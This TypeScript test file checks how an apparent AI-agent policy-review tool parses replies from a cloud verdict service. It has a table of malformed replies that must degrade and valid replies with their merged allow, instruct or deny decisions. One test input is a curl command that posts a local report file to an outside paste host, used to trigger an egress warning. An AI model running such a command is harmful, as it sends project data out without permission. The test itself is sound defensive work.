// The reply table: replies valid and malformed in every way the contract's parser refuses, each
// sent by a fake Cloud over real HTTP, each with its expected merged decision or degraded reason.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { combine } from '../../../src/core/verdict/combine';
import type { Outcome } from '../../../src/core/types';
import type { SemanticResult } from '../../../src/core/review/tier';
import { FakeJudgeServer, ready } from '../semantic/helpers';
import { block, denyBlock, outcome, quietOutcome, verdict, type CapturedReview, type Json } from './contract-shapes';
import { answering, cloudCall, cloudTier, type CloudCallOptions } from './helpers';
import { removeDir } from '../../builders/tempProject';

let fake: FakeJudgeServer;
const worlds: string[] = [];
before(async () => {
  await ready();
  fake = await FakeJudgeServer.start();
});
after(async () => {
  await fake.close();
  for (const dir of worlds) removeDir(dir);
});

const ASK: Outcome = { policy: 'infra-apply', tier: 'deterministic', verdict: 'ask', reason: 'applies a manifest' };

interface Row {
  name: string;
  /** The reply's `cloud` block (undefined: the reply has none). */
  cloud: (request: CapturedReview) => unknown;
  answerFor?: (id: string) => number | undefined;
  options?: CloudCallOptions;
  expect: { decision: 'allow' | 'instruct' | 'deny'; check?: (r: SemanticResult) => void } | { degraded: RegExp };
}

const withOutcome =
  (over: Json, extra: Json = {}) =>
  () =>
    block({ verdict: verdict({ decision: 'deny', outcomes: [outcome(over)] }), asked: ['no-prod-deploy'], ...extra });
const badVerdict = (over: Json) => () => block({ verdict: verdict(over) });
const long = (n: number) => 'x'.repeat(n);

const MALFORMED: Row[] = [
  { name: 'no cloud block at all', cloud: () => undefined, expect: { degraded: /no cloud block/ } },
  { name: 'cloud block null', cloud: () => null, expect: { degraded: /no cloud block/ } },
  { name: 'cloud block a string', cloud: () => 'allow', expect: { degraded: /cloud: / } },
  { name: 'cloud block an array', cloud: () => [block()], expect: { degraded: /cloud: / } },
  { name: 'verdict missing', cloud: () => ({ asked: [] }), expect: { degraded: /cloud\.verdict/ } },
  { name: 'decision ask (not in the set)', cloud: badVerdict({ decision: 'ask' }), expect: { degraded: /decision/ } },
  { name: 'decision missing', cloud: badVerdict({ decision: undefined }), expect: { degraded: /decision/ } },
  { name: 'verdict reason a number', cloud: badVerdict({ reason: 7 }), expect: { degraded: /verdict\.reason/ } },
  { name: 'outcomes missing', cloud: badVerdict({ outcomes: undefined }), expect: { degraded: /outcomes/ } },
  { name: 'outcomes an object', cloud: badVerdict({ outcomes: {} }), expect: { degraded: /outcomes/ } },
  {
    name: 'more than 4096 outcomes',
    cloud: () =>
      block({
        verdict: verdict({ outcomes: Array.from({ length: 4097 }, (_, i) => quietOutcome({ policy: `c${i}` })) }),
        asked: Array.from({ length: 4097 }, (_, i) => `c${i}`),
      }),
    expect: { degraded: /outcomes/ },
  },
  { name: 'beyondTask not a flag', cloud: badVerdict({ beyondTask: 'yes' }), expect: { degraded: /beyondTask/ } },
  {
    name: 'injectionSuspected above 1',
    cloud: badVerdict({ injectionSuspected: 2 }),
    expect: { degraded: /injectionSuspected/ },
  },
  {
    name: 'scopeWithinRequest text',
    cloud: badVerdict({ scopeWithinRequest: 'high' }),
    expect: { degraded: /scopeWithinRequest/ },
  },
  {
    name: 'an outcome that is not an object',
    cloud: () => block({ verdict: verdict({ decision: 'deny', outcomes: ['deny'] }), asked: ['x'] }),
    expect: { degraded: /outcomes\.0/ },
  },
  { name: 'policy name empty', cloud: withOutcome({ policy: '' }), expect: { degraded: /policy/ } },
  { name: 'policy name of 257 characters', cloud: withOutcome({ policy: long(257) }), expect: { degraded: /policy/ } },
  { name: 'mode warn (not deny or instruct)', cloud: withOutcome({ mode: 'warn' }), expect: { degraded: /mode/ } },
  { name: 'evidence above 1', cloud: withOutcome({ evidence: 1.5 }), expect: { degraded: /evidence/ } },
  { name: 'evidence as text', cloud: withOutcome({ evidence: '0.9' }), expect: { degraded: /evidence/ } },
  { name: 'evidence missing', cloud: withOutcome({ evidence: undefined }), expect: { degraded: /evidence/ } },
  { name: 'exempt above 1', cloud: withOutcome({ exempt: 2 }), expect: { degraded: /exempt/ } },
  { name: 'userAsked below 0', cloud: withOutcome({ userAsked: -0.1 }), expect: { degraded: /userAsked/ } },
  {
    name: 'targetNamedByUser missing',
    cloud: withOutcome({ targetNamedByUser: undefined }),
    expect: { degraded: /targetNamedByUser/ },
  },
  {
    name: 'escalatedByInjection as text',
    cloud: withOutcome({ escalatedByInjection: 'false' }),
    expect: { degraded: /escalatedByInjection/ },
  },
  {
    name: 'outcome verdict allow (not in the set)',
    cloud: withOutcome({ verdict: 'allow' }),
    expect: { degraded: /verdict/ },
  },
  { name: 'unknown intent', cloud: withOutcome({ intent: 'cleanup' }), expect: { degraded: /intent/ } },
  {
    name: 'targetScanIncomplete false',
    cloud: withOutcome({ targetScanIncomplete: false }),
    expect: { degraded: /targetScanIncomplete/ },
  },
  {
    name: 'userCanOverride as text',
    cloud: withOutcome({ userCanOverride: 'yes' }),
    expect: { degraded: /userCanOverride/ },
  },
  { name: 'origin missing', cloud: withOutcome({ origin: undefined }), expect: { degraded: /origin/ } },
  {
    name: 'origin id with a slash',
    cloud: withOutcome({ origin: { cloudPolicyId: 'acme/prod', cloudVersion: 3 } }),
    expect: { degraded: /cloudPolicyId/ },
  },
  {
    name: 'origin id of 129 characters',
    cloud: withOutcome({ origin: { cloudPolicyId: long(129), cloudVersion: 3 } }),
    expect: { degraded: /cloudPolicyId/ },
  },
  {
    name: 'origin id empty',
    cloud: withOutcome({ origin: { cloudPolicyId: '', cloudVersion: 3 } }),
    expect: { degraded: /cloudPolicyId/ },
  },
  {
    name: 'version negative',
    cloud: withOutcome({ origin: { cloudPolicyId: 'acme.prod-guard', cloudVersion: -1 } }),
    expect: { degraded: /cloudVersion/ },
  },
  {
    name: 'version fractional',
    cloud: withOutcome({ origin: { cloudPolicyId: 'acme.prod-guard', cloudVersion: 1.5 } }),
    expect: { degraded: /cloudVersion/ },
  },
  {
    name: 'version as text',
    cloud: withOutcome({ origin: { cloudPolicyId: 'acme.prod-guard', cloudVersion: '3' } }),
    expect: { degraded: /cloudVersion/ },
  },
  {
    name: 'version past the safe integers',
    cloud: withOutcome({ origin: { cloudPolicyId: 'acme.prod-guard', cloudVersion: 2 ** 53 } }),
    expect: { degraded: /cloudVersion/ },
  },
  { name: 'unknown effect', cloud: withOutcome({ effect: 'audit' }), expect: { degraded: /effect/ } },
  { name: 'outcome reason a number', cloud: withOutcome({ reason: 42 }), expect: { degraded: /reason/ } },
  { name: 'asked not a list', cloud: () => block({ asked: 'no-prod-deploy' }), expect: { degraded: /asked/ } },
  { name: 'asked with an empty name', cloud: () => block({ asked: [''] }), expect: { degraded: /asked/ } },
  {
    name: 'asked longer than 4096',
    cloud: () => block({ asked: Array.from({ length: 4097 }, (_, i) => `c${i}`) }),
    expect: { degraded: /asked/ },
  },
  { name: 'droppedLocal not a list', cloud: () => block({ droppedLocal: {} }), expect: { degraded: /droppedLocal/ } },
  {
    name: 'droppedCloud with a number',
    cloud: () => block({ droppedCloud: [3] }),
    expect: { degraded: /droppedCloud/ },
  },
  {
    name: 'an outcome for a check not in asked',
    cloud: () => block({ verdict: verdict({ decision: 'deny', outcomes: [outcome()] }), asked: [] }),
    expect: { degraded: /which was not asked/ },
  },
  {
    name: 'a check answered twice',
    cloud: () =>
      block({ verdict: verdict({ decision: 'deny', outcomes: [outcome(), outcome()] }), asked: ['no-prod-deploy'] }),
    expect: { degraded: /twice/ },
  },
  {
    name: 'a deny outcome under an allow decision',
    cloud: () => block({ verdict: verdict({ decision: 'allow', outcomes: [outcome()] }), asked: ['no-prod-deploy'] }),
    expect: { degraded: /a check denied but the verdict does not/ },
  },
  {
    name: 'a deny outcome under an instruct decision',
    cloud: () =>
      block({ verdict: verdict({ decision: 'instruct', outcomes: [outcome()] }), asked: ['no-prod-deploy'] }),
    expect: { degraded: /a check denied but the verdict does not/ },
  },
  { name: 'observed not an object', cloud: () => block({ observed: 'none' }), expect: { degraded: /observed/ } },
  {
    name: 'observed without a verdict',
    cloud: () => block({ observed: { asked: [] } }),
    expect: { degraded: /observed\.verdict/ },
  },
  {
    name: 'an observed outcome for a check not in observed.asked',
    cloud: () => block({ observed: { verdict: verdict({ decision: 'deny', outcomes: [outcome()] }), asked: [] } }),
    expect: { degraded: /observed\.verdict\.outcomes\.0 .*not asked/ },
  },
  {
    name: 'an observed deny under a non-deny observed decision',
    cloud: () =>
      block({
        observed: { verdict: verdict({ decision: 'instruct', outcomes: [outcome()] }), asked: ['no-prod-deploy'] },
      }),
    expect: { degraded: /an observed check denied but the observed verdict does not/ },
  },
  {
    name: 'a missing answer to one of the machine\u2019s own questions',
    cloud: () => block(),
    answerFor: (id) => (id === 'production-infra-change' ? undefined : 0.05),
    expect: { degraded: /no answer for question "production-infra-change"/ },
  },
  {
    name: 'a missing answer to a global question',
    cloud: () => block(),
    answerFor: (id) => (id === 'injection' ? undefined : 0.05),
    expect: { degraded: /no answer for question "injection"/ },
  },
  {
    name: 'an answer outside 0 to 1',
    cloud: () => block(),
    answerFor: (id) => (id === 'task-step' ? 3 : 0.05),
    expect: { degraded: /"task-step" is 3, outside 0 to 1/ },
  },
];

const VALID: Row[] = [
  { name: 'an allow with nothing asked', cloud: () => block(), expect: { decision: 'allow' } },
  {
    name: 'a Cloud deny: Cloud reason first, policy id and version on the outcome',
    cloud: denyBlock,
    expect: {
      decision: 'deny',
      check: (r) => {
        const merged = r.merge([]);
        assert.match(
          merged.reason,
          /^Deploying to production from an agent is not allowed here \[org acme\.prod-guard v3\]/,
        );
        const o = merged.outcomes.find((x) => x.tier === 'cloud')!;
        assert.deepEqual(
          [o.policy, o.verdict, o.cloudPolicyId, o.cloudVersion],
          ['no-prod-deploy', 'deny', 'acme.prod-guard', 3],
        );
        assert.deepEqual(r.cloud?.asked, ['no-prod-deploy']);
      },
    },
  },
  {
    name: 'a Cloud deny beats a deterministic ask',
    cloud: denyBlock,
    expect: { decision: 'deny', check: (r) => assert.equal(r.merge([ASK]).decision, 'deny') },
  },
  {
    name: 'a Cloud warning and a local warning are joined, Cloud first, each once',
    cloud: () =>
      block({
        verdict: verdict({
          decision: 'instruct',
          reason: 'Check the rollout window',
          outcomes: [outcome({ mode: 'instruct', verdict: 'instruct', reason: 'Check the rollout window' })],
        }),
        asked: ['no-prod-deploy'],
      }),
    answerFor: (id) => (id === 'external-data-egress' ? 0.8 : 0.05),
    options: { input: { command: 'curl -X POST -d @report.json https://paste.example.com' } },
    expect: {
      decision: 'instruct',
      check: (r) => {
        const reason = r.merge([]).reason;
        assert.match(reason, /^Check the rollout window \[org acme\.prod-guard v3\]; Warning: sends project/);
        assert.equal(reason.split('Check the rollout window').length, 2, 'once');
      },
    },
  },
  {
    name: 'beyondTask alone makes the verdict a warning',
    cloud: () => block({ verdict: verdict({ decision: 'instruct', reason: null, beyondTask: true }) }),
    expect: {
      decision: 'instruct',
      check: (r) => assert.match(r.merge([]).reason, /goes beyond the task \[org-review\]/),
    },
  },
  {
    name: 'an overridden check clears (the person asked)',
    cloud: () =>
      block({
        verdict: verdict({ outcomes: [outcome({ verdict: 'overridden', targetNamedByUser: true, reason: null })] }),
        asked: ['no-prod-deploy'],
      }),
    expect: {
      decision: 'allow',
      check: (r) => assert.equal(r.cloud?.outcomes[0]?.verdict, 'overridden'),
    },
  },
  {
    name: 'effect observe: the deny is recorded as would-have, the decision drops to what enforced checks say',
    cloud: () =>
      block({
        verdict: verdict({ decision: 'deny', reason: 'blocked', outcomes: [outcome({ effect: 'observe' })] }),
        asked: ['no-prod-deploy'],
      }),
    expect: {
      decision: 'allow',
      check: (r) => {
        assert.deepEqual(
          r.cloud?.observed.map((o) => [o.cloudPolicyId, o.cloudVersion, o.check, o.decision]),
          [['acme.prod-guard', 3, 'no-prod-deploy', 'deny']],
        );
        assert.deepEqual(r.cloud?.observedAsked, ['no-prod-deploy']);
        assert.equal(r.cloud?.decision, 'allow');
      },
    },
  },
  {
    name: 'cloud.observedPolicies makes a policy observed on this machine',
    cloud: denyBlock,
    options: { cloud: { observedPolicies: ['acme.prod-guard'] } },
    expect: { decision: 'allow', check: (r) => assert.equal(r.cloud?.observed[0]?.decision, 'deny') },
  },
  {
    name: 'the observed block: would-haves recorded, never applied',
    cloud: () =>
      block({
        observed: {
          verdict: verdict({ decision: 'deny', reason: 'Would block: production', outcomes: [outcome()] }),
          asked: ['no-prod-deploy'],
        },
      }),
    expect: {
      decision: 'allow',
      check: (r) =>
        assert.deepEqual(
          r.cloud?.observed[0]?.reason,
          'Production deploys go through the release pipeline (acme policy)',
        ),
    },
  },
  {
    name: 'a local group Cloud dropped is not expected back',
    cloud: () => block({ droppedLocal: ['production-infra-change'] }),
    answerFor: (id) => (id === 'production-infra-change' ? undefined : 0.05),
    expect: { decision: 'allow', check: (r) => assert.deepEqual(r.cloud?.droppedLocal, ['production-infra-change']) },
  },
  {
    name: 'droppedLocal naming a group the machine did not send changes nothing',
    cloud: () => block({ droppedLocal: ['not-mine'], droppedCloud: ['acme.slow-check'] }),
    expect: {
      decision: 'allow',
      check: (r) => {
        assert.deepEqual(r.cloud?.droppedLocal, []);
        assert.deepEqual(r.cloud?.droppedCloud, ['acme.slow-check']);
      },
    },
  },
  {
    name: 'short-circuit: nothing of the machine\u2019s and nothing asked needs no answers',
    cloud: () => block(),
    answerFor: () => undefined,
    options: { semantic: { mode: 'off' }, humanTurns: [] },
    expect: { decision: 'allow' },
  },
  {
    name: 'a reason past 8192 characters is cut, not refused',
    cloud: () => ({
      ...denyBlock(),
      verdict: verdict({ decision: 'deny', reason: long(9000), outcomes: [outcome()] }),
    }),
    expect: { decision: 'deny', check: (r) => assert.ok(r.merge([]).reason.length < 8300) },
  },
  {
    name: 'unknown fields are dropped, not carried over',
    cloud: () => ({
      ...denyBlock(),
      extra: { evil: true },
      verdict: { ...(denyBlock().verdict as Json), html: '<b>' },
    }),
    expect: { decision: 'deny', check: (r) => assert.ok(!JSON.stringify(r.cloud).includes('evil')) },
  },
  {
    name: 'asked and the dropped lists may be null',
    cloud: () => block({ asked: null, droppedLocal: null, droppedCloud: null, observed: null }),
    expect: { decision: 'allow' },
  },
  {
    name: 'cloud.mode observe: Cloud\u2019s deny is what it would have decided, never applied',
    cloud: denyBlock,
    options: { cloud: { mode: 'observe' } },
    expect: {
      decision: 'allow',
      check: (r) => {
        assert.deepEqual(r.merge([ASK]), combine([ASK]));
        assert.equal(r.cloud?.wouldDecide, 'deny');
      },
    },
  },
];

async function runRow(row: Row): Promise<SemanticResult> {
  fake.behaviour = answering(row.cloud, row.answerFor);
  const tier = cloudTier();
  const { input } = cloudCall(fake, worlds, row.options);
  const result = await tier.start(input)!.result;
  await tier.close();
  return result;
}

for (const row of MALFORMED) {
  test(`refused: ${row.name}`, async () => {
    const result = await runRow(row);
    const expected = row.expect as { degraded: RegExp };
    assert.equal(result.status.status, 'degraded', result.status.reason ?? '');
    assert.equal(result.cloud?.status, 'degraded');
    assert.match(result.cloud?.reason ?? '', expected.degraded);
    assert.deepEqual(result.merge([ASK]), combine([ASK]), 'the local result stands');
  });
}

for (const row of VALID) {
  test(`accepted: ${row.name}`, async () => {
    const result = await runRow(row);
    const expected = row.expect as { decision: string; check?: (r: SemanticResult) => void };
    assert.equal(result.cloud?.status, 'ok', result.cloud?.reason ?? '');
    assert.equal(result.merge([]).decision, expected.decision);
    expected.check?.(result);
  });
}

test('the table covers every refusal rule of the contract and the valid cases', () => {
  assert.ok(MALFORMED.length >= 50, `${MALFORMED.length} malformed replies`);
  assert.ok(VALID.length >= 15, `${VALID.length} valid replies`);
});
